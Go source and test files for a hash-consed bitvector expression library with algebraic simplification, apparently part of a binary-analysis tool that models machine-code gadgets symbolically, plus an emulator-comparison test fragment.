			for b := 7; b >= 0; b-- {
				v = v<<8 | uint64(initStack[idx+b])
			}
			_ = size
			env[StackVarName(off)] = v
		}

		// Path condition must hold on the concrete path actually taken.
		for _, c := range eff.Conds {
			okc, err := expr.EvalBool(c, env)
			if err != nil || !okc {
				t.Fatalf("iter %d: path condition failed: %v %v", iter, okc, err)
			}
		}

		// Final registers must match.
		for r := isa.Reg(0); r < isa.NumRegs; r++ {
			want := m.Regs[r]
			if r == isa.RSP {
				continue // compared via StackDelta below
			}
			got, err := expr.Eval(eff.Regs[r], env)
			if err != nil {
				t.Fatalf("iter %d: eval %s: %v (expr %s)", iter, r, err, eff.Regs[r])
			}
			if got != want {
				t.Fatalf("iter %d: %s = %#x, emulator has %#x\ngadget:\n%s\nexpr: %s",
					iter, r, got, want, isa.DisasmText(code, base), eff.Regs[r])
			}
		}
		// Stack delta and next RIP.
		if uint64(int64(rsp0)+eff.StackDelta) != m.Regs[isa.RSP] {
			t.Fatalf("iter %d: delta %d, emu rsp %#x (start %#x)", iter, eff.StackDelta, m.Regs[isa.RSP], rsp0)
		}
		gotRIP, err := expr.Eval(eff.NextRIP, env)
		if err != nil || gotRIP != m.RIP {
			t.Fatalf("iter %d: nextRIP %#x vs emu %#x (%v)", iter, gotRIP, m.RIP, err)
		}
		// Stack writes must match memory contents.
		for off, w := range eff.StackWrites {
			got, err := expr.Eval(w.Val, env)
			if err != nil {
				t.Fatalf("iter %d: eval stack write: %v", iter, err)
			}
			want, err := m.Mem.Read(rsp0+uint64(off), 8)
			if err != nil {
				t.Fatalf("iter %d: read stack write: %v", iter, err)
			}
			// Only compare the written size's bytes; 8 for all generated ops.
			if got != want {
				t.Fatalf("iter %d: stack[%d] = %#x, emu %#x", iter, off, got, want)
			}
		}
	}
}

// withAddr returns the instruction as decoded from code (so Addr/Len match
// encoding reality).
func withAddr(inst isa.Inst, addr uint64, code []byte, base uint64) isa.Inst {
	dec, err := isa.Decode(code[addr-base:], addr)
	if err != nil {
		panic(err)
	}
	return dec
}
