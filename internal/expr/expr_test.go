package expr

import (
	"testing"
	"testing/quick"
)

func TestHashConsing(t *testing.T) {
	b := NewBuilder()
	x := b.Var("x", 64)
	y := b.Var("y", 64)
	if x != b.Var("x", 64) {
		t.Error("same var interned twice")
	}
	a1 := b.Add(x, y)
	a2 := b.Add(x, y)
	if a1 != a2 {
		t.Error("identical expressions not pointer-equal")
	}
	// Commutative canonicalization.
	if b.Add(y, x) != a1 {
		t.Error("add not canonicalized")
	}
	if b.Mul(y, x) != b.Mul(x, y) {
		t.Error("mul not canonicalized")
	}
}

func TestConstantFolding(t *testing.T) {
	b := NewBuilder()
	c := func(v uint64) *Node { return b.Const(v, 64) }
	tests := []struct {
		got  *Node
		want uint64
	}{
		{b.Add(c(2), c(40)), 42},
		{b.Sub(c(50), c(8)), 42},
		{b.Mul(c(6), c(7)), 42},
		{b.And(c(0xFF), c(0x2A)), 42},
		{b.Or(c(0x20), c(0x0A)), 42},
		{b.Xor(c(0x6A), c(0x40)), 42},
		{b.Shl(c(21), c(1)), 42},
		{b.Lshr(c(84), c(1)), 42},
		{b.Ashr(c(^uint64(0)-83), c(1)), ^uint64(0) - 41},
		{b.Not(c(^uint64(42))), 42},
		{b.Neg(c(^uint64(0) - 41)), 42},
	}
	for i, tt := range tests {
		if !tt.got.IsConst() || tt.got.Val != tt.want {
			t.Errorf("case %d: got %s, want %#x", i, tt.got, tt.want)
		}
	}
}

func TestIdentities(t *testing.T) {
	b := NewBuilder()
	x := b.Var("x", 64)
	zero := b.Const(0, 64)
	one := b.Const(1, 64)
	ones := b.Const(^uint64(0), 64)

	if b.Add(x, zero) != x {
		t.Error("x+0 != x")
	}
	if b.Sub(x, x) != zero {
		t.Error("x-x != 0")
	}
	if b.Mul(x, one) != x {
		t.Error("x*1 != x")
	}
	if b.Mul(x, zero) != zero {
		t.Error("x*0 != 0")
	}
	if b.And(x, ones) != x {
		t.Error("x&~0 != x")
	}
	if b.And(x, zero) != zero {
		t.Error("x&0 != 0")
	}
	if b.Or(x, zero) != x {
		t.Error("x|0 != x")
	}
	if b.Xor(x, x) != zero {
		t.Error("x^x != 0")
	}
	if b.Not(b.Not(x)) != x {
		t.Error("~~x != x")
	}
	if b.Neg(b.Neg(x)) != x {
		t.Error("--x != x")
	}
	if got, ok := b.Eq(x, x).IsBoolConst(); !ok || !got {
		t.Error("x==x not true")
	}
	if got, ok := b.Ult(x, x).IsBoolConst(); !ok || got {
		t.Error("x<x not false")
	}
	// Nested constant accumulation: (x+1)+2 => x+3.
	sum := b.Add(b.Add(x, one), b.Const(2, 64))
	if sum != b.Add(x, b.Const(3, 64)) {
		t.Errorf("nested add constant fold failed: %s", sum)
	}
	// Equation normalization: (x+5) == 7 => x == 2.
	eq := b.Eq(b.Add(x, b.Const(5, 64)), b.Const(7, 64))
	if eq != b.Eq(x, b.Const(2, 64)) {
		t.Errorf("eq normalization failed: %s", eq)
	}
}

func TestBooleanSimplify(t *testing.T) {
	b := NewBuilder()
	p := b.Eq(b.Var("x", 64), b.Const(1, 64))
	if b.BAnd(b.True(), p) != p {
		t.Error("true && p != p")
	}
	if got, _ := b.BAnd(b.False(), p).IsBoolConst(); got {
		t.Error("false && p != false")
	}
	if got, ok := b.BOr(b.True(), p).IsBoolConst(); !ok || !got {
		t.Error("true || p != true")
	}
	if b.BOr(b.False(), p) != p {
		t.Error("false || p != p")
	}
	if b.BNot(b.BNot(p)) != p {
		t.Error("!!p != p")
	}
	if b.Ite(b.True(), b.Const(1, 64), b.Const(2, 64)).Val != 1 {
		t.Error("ite(true) wrong")
	}
}

// Property: evaluation of the operators matches Go's semantics.
func TestQuickEvalMatchesGo(t *testing.T) {
	b := NewBuilder()
	x := b.Var("x", 64)
	y := b.Var("y", 64)
	env := func(xv, yv uint64) Env { return Env{"x": xv, "y": yv} }

	cases := []struct {
		node *Node
		ref  func(a, c uint64) uint64
	}{
		{b.Add(x, y), func(a, c uint64) uint64 { return a + c }},
		{b.Sub(x, y), func(a, c uint64) uint64 { return a - c }},
		{b.Mul(x, y), func(a, c uint64) uint64 { return a * c }},
		{b.And(x, y), func(a, c uint64) uint64 { return a & c }},
		{b.Or(x, y), func(a, c uint64) uint64 { return a | c }},
		{b.Xor(x, y), func(a, c uint64) uint64 { return a ^ c }},
		{b.Shl(x, y), func(a, c uint64) uint64 { return a << (c % 64) }},
		{b.Lshr(x, y), func(a, c uint64) uint64 { return a >> (c % 64) }},
		{b.Ashr(x, y), func(a, c uint64) uint64 { return uint64(int64(a) >> (c % 64)) }},
		{b.Not(x), func(a, _ uint64) uint64 { return ^a }},
		{b.Neg(x), func(a, _ uint64) uint64 { return -a }},
	}
	f := func(a, c uint64) bool {
		for _, tc := range cases {
			got, err := Eval(tc.node, env(a, c))
			if err != nil || got != tc.ref(a, c) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

// Property: the instruction-substitution identity used by the obfuscator,
// x^y == (~x&y)|(x&~y), holds under evaluation.
func TestQuickObfuscationIdentity(t *testing.T) {
	b := NewBuilder()
	x := b.Var("x", 64)
	y := b.Var("y", 64)
	lhs := b.Xor(x, y)
	rhs := b.Or(b.And(b.Not(x), y), b.And(x, b.Not(y)))
	f := func(a, c uint64) bool {
		e := Env{"x": a, "y": c}
		l, err1 := Eval(lhs, e)
		r, err2 := Eval(rhs, e)
		return err1 == nil && err2 == nil && l == r
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1000}); err != nil {
		t.Fatal(err)
	}
}

func TestNarrowWidths(t *testing.T) {
	b := NewBuilder()
	x := b.Var("b", 8)
	got, err := Eval(b.Add(x, b.Const(0xFF, 8)), Env{"b": 2})
	if err != nil || got != 1 {
		t.Errorf("8-bit wraparound: %d, %v", got, err)
	}
	s := b.Sext(b.Const(0x80, 8), 64)
	if !s.IsConst() || s.Val != 0xFFFF_FFFF_FFFF_FF80 {
		t.Errorf("sext const = %s", s)
	}
	z := b.Zext(b.Const(0x80, 8), 64)
	if !z.IsConst() || z.Val != 0x80 {
		t.Errorf("zext const = %s", z)
	}
	tr := b.Trunc(b.Const(0x1234, 64), 8)
	if !tr.IsConst() || tr.Val != 0x34 {
		t.Errorf("trunc const = %s", tr)
	}
	// trunc(zext(x)) == x when widths line up.
	if b.Trunc(b.Zext(x, 64), 8) != x {
		t.Error("trunc(zext(x)) != x")
	}
	// Signed comparison at width 8: 0x80 (-128) < 0.
	lt := b.Slt(b.Const(0x80, 8), b.Const(0, 8))
	if v, ok := lt.IsBoolConst(); !ok || !v {
		t.Errorf("slt 8-bit = %s", lt)
	}
}

func TestSubst(t *testing.T) {
	b := NewBuilder()
	x := b.Var("x", 64)
	y := b.Var("y", 64)
	sum := b.Add(x, y)
	got := Subst(b, sum, map[string]*Node{"x": b.Const(40, 64)})
	v, err := Eval(got, Env{"y": 2})
	if err != nil || v != 42 {
		t.Errorf("subst eval = %d, %v", v, err)
	}
	// Substitution triggers simplification: x - x via binding y -> x.
	diff := b.Sub(x, y)
	got = Subst(b, diff, map[string]*Node{"y": x})
	if !got.IsConst() || got.Val != 0 {
		t.Errorf("subst simplify = %s", got)
	}
}

func TestVarsAndSize(t *testing.T) {
	b := NewBuilder()
	x := b.Var("x", 64)
	y := b.Var("y", 64)
	n := b.Add(b.Mul(x, y), x)
	vars := Vars(n)
	if len(vars) != 2 || vars[0] != "x" || vars[1] != "y" {
		t.Errorf("Vars = %v", vars)
	}
	if s := Size(n); s != 4 { // x, y, mul, add
		t.Errorf("Size = %d, want 4", s)
	}
	nodes := VarNodes(n)
	if len(nodes) != 2 || nodes[0] != x || nodes[1] != y {
		t.Errorf("VarNodes = %v", nodes)
	}
}

func TestEvalUnboundVar(t *testing.T) {
	b := NewBuilder()
	if _, err := Eval(b.Var("ghost", 64), Env{}); err == nil {
		t.Error("unbound variable evaluated")
	}
}

func TestImportAcrossBuilders(t *testing.T) {
	b1 := NewBuilder()
	n := b1.Add(b1.Var("x", 64), b1.Const(1, 64))
	b2 := NewBuilder()
	m := Import(b2, n)
	if m == n {
		t.Error("import returned foreign node")
	}
	v, err := Eval(m, Env{"x": 41})
	if err != nil || v != 42 {
		t.Errorf("imported eval = %d, %v", v, err)
	}
}

// TestSimplificationIdempotent: re-importing an already-simplified tree
// through a fresh builder must be a fixpoint.
func TestSimplificationIdempotent(t *testing.T) {
	b := NewBuilder()
	x := b.Var("x", 64)
	y := b.Var("y", 64)
	trees := []*Node{
		b.Add(b.Mul(x, y), b.Sub(x, b.Const(3, 64))),
		b.Ite(b.Ult(x, y), b.Xor(x, y), b.And(x, b.Not(y))),
		b.BOr(b.Eq(x, y), b.Slt(b.Ashr(x, b.Const(3, 64)), y)),
	}
	for _, n := range trees {
		b2 := NewBuilder()
		once := Import(b2, n)
		twice := Import(b2, once)
		if once != twice {
			t.Errorf("simplification not idempotent: %s vs %s", once, twice)
		}
		if once.String() != n.String() {
			t.Errorf("import changed structure: %s vs %s", once, n)
		}
	}
}

// TestIteOnBooleans covers width-1 ite muxing (used for flag updates).
func TestIteOnBooleans(t *testing.T) {
	b := NewBuilder()
	c := b.Eq(b.Var("x", 64), b.Const(0, 64))
	p := b.Var("zf0", BoolWidth)
	q := b.Ult(b.Var("x", 64), b.Const(5, 64))
	ite := b.Ite(c, p, q)
	v, err := EvalBool(ite, Env{"x": 0, "zf0": 1})
	if err != nil || !v {
		t.Errorf("ite(true, true, _) = %v %v", v, err)
	}
	v, err = EvalBool(ite, Env{"x": 3, "zf0": 0})
	if err != nil || !v {
		t.Errorf("ite(false, _, 3<5) = %v %v", v, err)
	}
}
