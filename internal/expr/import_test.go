package expr

import "testing"

// An imported DAG must be pointer-equal to the same expression built
// natively in the destination builder — Import re-interns through the
// destination's constructors, so hash-consing and canonical commutative
// ordering are re-established there.
func TestImportPointerEquality(t *testing.T) {
	src, dst := NewBuilder(), NewBuilder()

	x := src.Var("x", 64)
	y := src.Var("y", 64)
	sum := src.Add(x, src.Mul(y, src.Const(3, 64)))
	cond := src.BAnd(src.Ult(x, y), src.Eq(sum, src.Const(10, 64)))

	got := Import(dst, cond)
	want := dst.BAnd(
		dst.Ult(dst.Var("x", 64), dst.Var("y", 64)),
		dst.Eq(dst.Add(dst.Var("x", 64), dst.Mul(dst.Var("y", 64), dst.Const(3, 64))),
			dst.Const(10, 64)))
	if got != want {
		t.Fatalf("imported node not pointer-equal: %s vs %s", got, want)
	}
}

// Shared subterms in the source DAG must stay shared after import: one
// Importer memoizes per source node, so a diamond imports as a diamond.
func TestImportSharedSubterms(t *testing.T) {
	src, dst := NewBuilder(), NewBuilder()

	x := src.Var("x", 64)
	shared := src.Add(x, src.Const(1, 64))
	top := src.Mul(shared, src.Xor(shared, src.Const(7, 64)))

	im := NewImporter(dst)
	got := im.Import(top)

	sharedDst := dst.Add(dst.Var("x", 64), dst.Const(1, 64))
	want := dst.Mul(sharedDst, dst.Xor(sharedDst, dst.Const(7, 64)))
	if got != want {
		t.Fatalf("shared-subterm DAG not pointer-equal: %s vs %s", got, want)
	}
	// Importing the shared node directly hits the memo.
	if im.Import(shared) != sharedDst {
		t.Fatal("memoized subterm importer disagrees with native build")
	}
}

// Commutative operands are ordered by builder-local interning ids, so two
// builders that interned the variables in opposite orders hold structurally
// different (but equivalent) DAGs. Importing both into one destination must
// converge on a single canonical node.
func TestImportCanonicalizesCommutativeOrder(t *testing.T) {
	srcAB, srcBA, dst := NewBuilder(), NewBuilder(), NewBuilder()

	a1, b1 := srcAB.Var("a", 64), srcAB.Var("b", 64)
	sumAB := srcAB.Add(a1, b1)

	b2, a2 := srcBA.Var("b", 64), srcBA.Var("a", 64)
	sumBA := srcBA.Add(a2, b2)

	got1 := Import(dst, sumAB)
	got2 := Import(dst, sumBA)
	if got1 != got2 {
		t.Fatalf("same sum imported to distinct nodes: %s vs %s", got1, got2)
	}
}

// Import must preserve evaluation semantics across every node kind,
// including the ones simplification may rewrite.
func TestImportPreservesSemantics(t *testing.T) {
	src, dst := NewBuilder(), NewBuilder()

	x := src.Var("x", 32)
	y := src.Var("y", 32)
	nodes := []*Node{
		src.Sub(src.Shl(x, src.Const(2, 32)), src.Lshr(y, src.Const(1, 32))),
		src.Ashr(src.Neg(x), src.Const(3, 32)),
		src.Ite(src.Slt(x, y), src.Not(x), src.Or(x, y)),
		src.Zext(src.Trunc(x, 8), 64),
		src.Sext(src.Trunc(y, 16), 64),
		src.BOr(src.BNot(src.Eq(x, y)), src.Ult(x, y)),
		src.And(x, src.Xor(y, src.Const(0xF0F0, 32))),
	}
	env := Env{"x": 0x12345678, "y": 0x9ABCDEF0}
	for _, n := range nodes {
		want, err := Eval(n, env)
		if err != nil {
			t.Fatalf("eval source %s: %v", n, err)
		}
		imp := Import(dst, n)
		if imp.Width != n.Width {
			t.Errorf("width changed on import: %d vs %d (%s)", imp.Width, n.Width, n)
		}
		got, err := Eval(imp, env)
		if err != nil {
			t.Fatalf("eval imported %s: %v", imp, err)
		}
		if got != want {
			t.Errorf("import changed semantics: %s = %#x, imported %s = %#x",
				n, want, imp, got)
		}
	}
}

// ImportAll maps node-by-node and shares one memo across the slice.
func TestImportAll(t *testing.T) {
	src, dst := NewBuilder(), NewBuilder()
	x := src.Var("x", 64)
	shared := src.Add(x, src.Const(5, 64))
	in := []*Node{shared, src.Mul(shared, shared), src.Const(5, 64)}

	out := NewImporter(dst).ImportAll(in)
	if len(out) != len(in) {
		t.Fatalf("ImportAll returned %d nodes, want %d", len(out), len(in))
	}
	sharedDst := dst.Add(dst.Var("x", 64), dst.Const(5, 64))
	if out[0] != sharedDst || out[1] != dst.Mul(sharedDst, sharedDst) || out[2] != dst.Const(5, 64) {
		t.Fatal("ImportAll results not pointer-equal to native builds")
	}
	if ImportAllNil := NewImporter(dst).ImportAll(nil); ImportAllNil != nil {
		t.Fatal("ImportAll(nil) should be nil")
	}
}
