// Package expr implements a hash-consed bitvector and boolean expression DAG
// with algebraic simplification. It is the term language shared by the
// symbolic executor (pre/post-conditions of gadgets), the subsumption tester,
// the partial-order planner, and the SMT solver.
//
// Widths are in bits; width 1 denotes a boolean. All bitvector operators
// require equal operand widths. Width mismatches are programming errors and
// panic; they cannot arise from analyzing binaries, only from bugs in the
// analysis itself.
package expr

import (
	"fmt"
	"strings"
)

// Kind enumerates node kinds.
type Kind uint8

// Node kinds. BoolWidth-1 kinds produce booleans.
const (
	KindInvalid Kind = iota
	KindConst        // Val, Width
	KindVar          // Name, Width

	// Bitvector operations.
	KindAdd
	KindSub
	KindMul
	KindAnd
	KindOr
	KindXor
	KindShl
	KindLshr
	KindAshr
	KindNot
	KindNeg
	KindZext  // zero-extend Args[0] to Width
	KindSext  // sign-extend Args[0] to Width
	KindTrunc // truncate Args[0] to Width
	KindIte   // Args[0] bool ? Args[1] : Args[2]

	// Boolean-valued comparisons over bitvectors.
	KindEq
	KindUlt
	KindSlt

	// Boolean connectives.
	KindBAnd
	KindBOr
	KindBNot
)

// BoolWidth is the width used for boolean nodes.
const BoolWidth = 1

// Node is one immutable, hash-consed expression node. Nodes must be created
// through a Builder; nodes from the same Builder can be compared by pointer.
type Node struct {
	Kind  Kind
	Width uint8 // result width in bits (1 = bool)
	Val   uint64
	Name  string
	Args  []*Node
	id    uint32
}

// ID returns a builder-unique identifier, usable as a map key.
func (n *Node) ID() uint32 { return n.id }

// IsConst reports whether the node is a bitvector constant.
func (n *Node) IsConst() bool { return n.Kind == KindConst && n.Width > 1 }

// IsBoolConst reports whether the node is a boolean constant, and its value.
func (n *Node) IsBoolConst() (value, ok bool) {
	if n.Kind == KindConst && n.Width == BoolWidth {
		return n.Val == 1, true
	}
	return false, false
}

type nodeKey struct {
	kind       Kind
	width      uint8
	val        uint64
	name       string
	a0, a1, a2 uint32
}

// constKey keys the constant fast path: constants are by far the most
// interned kind (every operand mask, immediate, and rip value is one), and
// hashing this 16-byte struct is much cheaper than hashing a full nodeKey
// with its embedded string.
type constKey struct {
	val   uint64
	width uint8
}

// Builder interns nodes. The zero value is not usable; call NewBuilder.
type Builder struct {
	table  map[nodeKey]*Node
	consts map[constKey]*Node
	next   uint32

	// constFast is a direct-mapped cache in front of consts: the same few
	// constants (operand masks, small immediates) are requested millions of
	// times during extraction, and a verified array probe beats even the
	// cheap constKey map lookup. Purely a cache — a collision evicts and
	// falls through to the map, never changing which node is returned.
	constFast [128]*Node
}

// NewBuilder returns an empty builder.
func NewBuilder() *Builder {
	return &Builder{
		table:  make(map[nodeKey]*Node),
		consts: make(map[constKey]*Node),
	}
}

// NumNodes returns how many distinct nodes have been interned.
func (b *Builder) NumNodes() int { return len(b.table) }

func (b *Builder) intern(kind Kind, width uint8, val uint64, name string, args ...*Node) *Node {
	key := nodeKey{kind: kind, width: width, val: val, name: name}
	switch len(args) {
	case 3:
		key.a2 = args[2].id + 1
		fallthrough
	case 2:
		key.a1 = args[1].id + 1
		fallthrough
	case 1:
		key.a0 = args[0].id + 1
	}
	if n, ok := b.table[key]; ok {
		return n
	}
	b.next++
	n := &Node{Kind: kind, Width: width, Val: val, Name: name, id: b.next}
	if len(args) > 0 {
		n.Args = append([]*Node(nil), args...)
	}
	b.table[key] = n
	return n
}

func maskWidth(v uint64, w uint8) uint64 {
	if w >= 64 {
		return v
	}
	return v & (1<<w - 1)
}

func signExtend(v uint64, from uint8) uint64 {
	shift := 64 - from
	return uint64(int64(v<<shift) >> shift)
}

// Const returns a bitvector constant of the given width. Constants go
// through a dedicated cache in front of intern: the node returned is the
// same one intern would return (intern still assigns ids and owns the
// canonical table), the lookup just hashes a plain {val, width} key instead
// of a nodeKey.
func (b *Builder) Const(v uint64, w uint8) *Node {
	val := maskWidth(v, w)
	slot := ((val ^ uint64(w)<<56) * 0x9E3779B97F4A7C15) >> (64 - 7)
	if n := b.constFast[slot]; n != nil && n.Val == val && n.Width == w {
		return n
	}
	key := constKey{val: val, width: w}
	n, ok := b.consts[key]
	if !ok {
		n = b.intern(KindConst, w, val, "")
		b.consts[key] = n
	}
	b.constFast[slot] = n
	return n
}

// Bool returns a boolean constant.
func (b *Builder) Bool(v bool) *Node {
	var x uint64
	if v {
		x = 1
	}
	return b.Const(x, BoolWidth)
}

// True and False return the boolean constants.
func (b *Builder) True() *Node  { return b.Bool(true) }
func (b *Builder) False() *Node { return b.Bool(false) }

// Var returns a named bitvector variable.
func (b *Builder) Var(name string, w uint8) *Node {
	return b.intern(KindVar, w, 0, name)
}

func checkSameWidth(op string, x, y *Node) {
	if x.Width != y.Width {
		panic(fmt.Sprintf("expr: %s width mismatch: %d vs %d", op, x.Width, y.Width))
	}
}

// orderCommutative puts a canonical order on commutative operands: constants
// last, otherwise by node identity.
func orderCommutative(x, y *Node) (*Node, *Node) {
	if x.Kind == KindConst && y.Kind != KindConst {
		return y, x
	}
	if x.Kind != KindConst && y.Kind != KindConst && x.id > y.id {
		return y, x
	}
	return x, y
}

// Add returns x + y.
func (b *Builder) Add(x, y *Node) *Node {
	checkSameWidth("add", x, y)
	x, y = orderCommutative(x, y)
	if x.IsConst() && y.IsConst() {
		return b.Const(x.Val+y.Val, x.Width)
	}
	if y.IsConst() && y.Val == 0 {
		return x
	}
	// (x + c1) + c2 => x + (c1+c2)
	if y.IsConst() && x.Kind == KindAdd && x.Args[1].IsConst() {
		return b.Add(x.Args[0], b.Const(x.Args[1].Val+y.Val, x.Width))
	}
	return b.intern(KindAdd, x.Width, 0, "", x, y)
}

// Sub returns x - y.
func (b *Builder) Sub(x, y *Node) *Node {
	checkSameWidth("sub", x, y)
	if x.IsConst() && y.IsConst() {
		return b.Const(x.Val-y.Val, x.Width)
	}
	if y.IsConst() && y.Val == 0 {
		return x
	}
	if x == y {
		return b.Const(0, x.Width)
	}
	if y.IsConst() {
		return b.Add(x, b.Const(-y.Val, x.Width))
	}
	// (a + c) - a => c, and (a + c1) - (a + c2) => c1 - c2. These arise
	// constantly when tracking rsp as "entry rsp plus constant".
	if x.Kind == KindAdd && x.Args[1].IsConst() {
		if x.Args[0] == y {
			return x.Args[1]
		}
		if y.Kind == KindAdd && y.Args[1].IsConst() && x.Args[0] == y.Args[0] {
			return b.Const(x.Args[1].Val-y.Args[1].Val, x.Width)
		}
	}
	// a - (a + c) => -c.
	if y.Kind == KindAdd && y.Args[1].IsConst() && y.Args[0] == x {
		return b.Const(-y.Args[1].Val, x.Width)
	}
	return b.intern(KindSub, x.Width, 0, "", x, y)
}

// Mul returns x * y.
func (b *Builder) Mul(x, y *Node) *Node {
	checkSameWidth("mul", x, y)
	x, y = orderCommutative(x, y)
	if x.IsConst() && y.IsConst() {
		return b.Const(x.Val*y.Val, x.Width)
	}
	if y.IsConst() {
		switch y.Val {
		case 0:
			return b.Const(0, x.Width)
		case 1:
			return x
		}
	}
	return b.intern(KindMul, x.Width, 0, "", x, y)
}

// And returns x & y.
func (b *Builder) And(x, y *Node) *Node {
	checkSameWidth("and", x, y)
	x, y = orderCommutative(x, y)
	if x.IsConst() && y.IsConst() {
		return b.Const(x.Val&y.Val, x.Width)
	}
	if y.IsConst() {
		if y.Val == 0 {
			return b.Const(0, x.Width)
		}
		if y.Val == maskWidth(^uint64(0), x.Width) {
			return x
		}
	}
	if x == y {
		return x
	}
	return b.intern(KindAnd, x.Width, 0, "", x, y)
}

// Or returns x | y.
func (b *Builder) Or(x, y *Node) *Node {
	checkSameWidth("or", x, y)
	x, y = orderCommutative(x, y)
	if x.IsConst() && y.IsConst() {
		return b.Const(x.Val|y.Val, x.Width)
	}
	if y.IsConst() {
		if y.Val == 0 {
			return x
		}
		if y.Val == maskWidth(^uint64(0), x.Width) {
			return y
		}
	}
	if x == y {
		return x
	}
	return b.intern(KindOr, x.Width, 0, "", x, y)
}

// Xor returns x ^ y.
func (b *Builder) Xor(x, y *Node) *Node {
	checkSameWidth("xor", x, y)
	x, y = orderCommutative(x, y)
	if x.IsConst() && y.IsConst() {
		return b.Const(x.Val^y.Val, x.Width)
	}
	if y.IsConst() && y.Val == 0 {
		return x
	}
	if x == y {
		return b.Const(0, x.Width)
	}
	return b.intern(KindXor, x.Width, 0, "", x, y)
}

// Shl returns x << y (shift amount taken modulo width, as on x86).
func (b *Builder) Shl(x, y *Node) *Node {
	checkSameWidth("shl", x, y)
	if x.IsConst() && y.IsConst() {
		return b.Const(x.Val<<(y.Val%uint64(x.Width)), x.Width)
	}
	if y.IsConst() && y.Val%uint64(x.Width) == 0 {
		return x
	}
	return b.intern(KindShl, x.Width, 0, "", x, y)
}

// Lshr returns x >> y logically.
func (b *Builder) Lshr(x, y *Node) *Node {
	checkSameWidth("lshr", x, y)
	if x.IsConst() && y.IsConst() {
		return b.Const(x.Val>>(y.Val%uint64(x.Width)), x.Width)
	}
	if y.IsConst() && y.Val%uint64(x.Width) == 0 {
		return x
	}
	return b.intern(KindLshr, x.Width, 0, "", x, y)
}

// Ashr returns x >> y arithmetically.
func (b *Builder) Ashr(x, y *Node) *Node {
	checkSameWidth("ashr", x, y)
	if x.IsConst() && y.IsConst() {
		sv := signExtend(x.Val, x.Width)
		return b.Const(uint64(int64(sv)>>(y.Val%uint64(x.Width))), x.Width)
	}
	if y.IsConst() && y.Val%uint64(x.Width) == 0 {
		return x
	}
	return b.intern(KindAshr, x.Width, 0, "", x, y)
}

// Not returns ^x.
func (b *Builder) Not(x *Node) *Node {
	if x.IsConst() {
		return b.Const(^x.Val, x.Width)
	}
	if x.Kind == KindNot {
		return x.Args[0]
	}
	return b.intern(KindNot, x.Width, 0, "", x)
}

// Neg returns -x.
func (b *Builder) Neg(x *Node) *Node {
	if x.IsConst() {
		return b.Const(-x.Val, x.Width)
	}
	if x.Kind == KindNeg {
		return x.Args[0]
	}
	return b.intern(KindNeg, x.Width, 0, "", x)
}

// Zext zero-extends x to width w.
func (b *Builder) Zext(x *Node, w uint8) *Node {
	if w == x.Width {
		return x
	}
	if w < x.Width {
		panic(fmt.Sprintf("expr: zext narrows %d to %d", x.Width, w))
	}
	if x.IsConst() {
		return b.Const(x.Val, w)
	}
	return b.intern(KindZext, w, 0, "", x)
}

// Sext sign-extends x to width w.
func (b *Builder) Sext(x *Node, w uint8) *Node {
	if w == x.Width {
		return x
	}
	if w < x.Width {
		panic(fmt.Sprintf("expr: sext narrows %d to %d", x.Width, w))
	}
	if x.IsConst() {
		return b.Const(maskWidth(signExtend(x.Val, x.Width), w), w)
	}
	return b.intern(KindSext, w, 0, "", x)
}

// Trunc truncates x to width w.
func (b *Builder) Trunc(x *Node, w uint8) *Node {
	if w == x.Width {
		return x
	}
	if w > x.Width {
		panic(fmt.Sprintf("expr: trunc widens %d to %d", x.Width, w))
	}
	if x.IsConst() {
		return b.Const(x.Val, w)
	}
	if x.Kind == KindZext || x.Kind == KindSext {
		inner := x.Args[0]
		if inner.Width == w {
			return inner
		}
		if inner.Width > w {
			return b.Trunc(inner, w)
		}
	}
	return b.intern(KindTrunc, w, 0, "", x)
}

// Ite returns cond ? x : y.
func (b *Builder) Ite(cond, x, y *Node) *Node {
	if cond.Width != BoolWidth {
		panic("expr: ite condition must be boolean")
	}
	checkSameWidth("ite", x, y)
	if v, ok := cond.IsBoolConst(); ok {
		if v {
			return x
		}
		return y
	}
	if x == y {
		return x
	}
	return b.intern(KindIte, x.Width, 0, "", cond, x, y)
}

// Eq returns the boolean x == y.
func (b *Builder) Eq(x, y *Node) *Node {
	checkSameWidth("eq", x, y)
	x, y = orderCommutative(x, y)
	if x.IsConst() && y.IsConst() {
		return b.Bool(x.Val == y.Val)
	}
	if x == y {
		return b.True()
	}
	// (a + c1) == c2  =>  a == c2 - c1
	if y.IsConst() && x.Kind == KindAdd && x.Args[1].IsConst() {
		return b.Eq(x.Args[0], b.Const(y.Val-x.Args[1].Val, x.Width))
	}
	return b.intern(KindEq, BoolWidth, 0, "", x, y)
}

// Ne returns the boolean x != y.
func (b *Builder) Ne(x, y *Node) *Node { return b.BNot(b.Eq(x, y)) }

// Ult returns the boolean x < y, unsigned.
func (b *Builder) Ult(x, y *Node) *Node {
	checkSameWidth("ult", x, y)
	if x.IsConst() && y.IsConst() {
		return b.Bool(x.Val < y.Val)
	}
	if x == y {
		return b.False()
	}
	if y.IsConst() && y.Val == 0 {
		return b.False()
	}
	return b.intern(KindUlt, BoolWidth, 0, "", x, y)
}

// Slt returns the boolean x < y, signed.
func (b *Builder) Slt(x, y *Node) *Node {
	checkSameWidth("slt", x, y)
	if x.IsConst() && y.IsConst() {
		return b.Bool(int64(signExtend(x.Val, x.Width)) < int64(signExtend(y.Val, y.Width)))
	}
	if x == y {
		return b.False()
	}
	return b.intern(KindSlt, BoolWidth, 0, "", x, y)
}

// BAnd returns the boolean conjunction.
func (b *Builder) BAnd(x, y *Node) *Node {
	x, y = orderCommutative(x, y)
	if v, ok := x.IsBoolConst(); ok {
		if v {
			return y
		}
		return b.False()
	}
	if v, ok := y.IsBoolConst(); ok {
		if v {
			return x
		}
		return b.False()
	}
	if x == y {
		return x
	}
	return b.intern(KindBAnd, BoolWidth, 0, "", x, y)
}

// BOr returns the boolean disjunction.
func (b *Builder) BOr(x, y *Node) *Node {
	x, y = orderCommutative(x, y)
	if v, ok := x.IsBoolConst(); ok {
		if v {
			return b.True()
		}
		return y
	}
	if v, ok := y.IsBoolConst(); ok {
		if v {
			return b.True()
		}
		return x
	}
	if x == y {
		return x
	}
	return b.intern(KindBOr, BoolWidth, 0, "", x, y)
}

// BNot returns the boolean negation.
func (b *Builder) BNot(x *Node) *Node {
	if v, ok := x.IsBoolConst(); ok {
		return b.Bool(!v)
	}
	if x.Kind == KindBNot {
		return x.Args[0]
	}
	return b.intern(KindBNot, BoolWidth, 0, "", x)
}

